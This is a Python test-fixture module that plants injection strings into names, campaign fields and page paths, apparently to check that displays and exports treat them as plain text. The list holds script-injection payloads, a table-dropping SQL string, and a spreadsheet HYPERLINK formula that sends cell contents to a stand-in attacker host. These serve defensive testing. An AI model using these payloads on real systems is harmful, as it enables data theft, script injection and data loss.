"""Texts that whoever shows or exports them must show as text: scripts, templates, formulas and SQL."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Sequence

INJECTIONS = (
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "<img src=x onerror=alert(1)>",
    "{{7*7}}",
    "\u202edlog",
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1)",
    '=HYPERLINK("https://attacker.example?"&A1,"open")',
    "'; DROP TABLE orders; --",
    "javascript:alert(1)",
)
"""The texts; the fifth turns the direction of writing."""


def plant_names(names: Sequence[str]) -> list[str]:
    """Return names of which every second one is replaced."""
    return [INJECTIONS[place // 2 % len(INJECTIONS)] if place % 2 else name for place, name in enumerate(names)]


def plant_campaigns(campaigns: Sequence[str | None]) -> list[str | None]:
    """Return campaigns of which all that are there are replaced."""
    return [campaign and INJECTIONS[place % len(INJECTIONS)] for place, campaign in enumerate(campaigns)]


def plant_paths(paths: Sequence[str]) -> list[str]:
    """Return paths of pages with a parameter more; what comes before it stays."""
    return [
        f"{path}{'&' if '?' in path else '?'}ref={INJECTIONS[place % len(INJECTIONS)]}"
        for place, path in enumerate(paths)
    ]
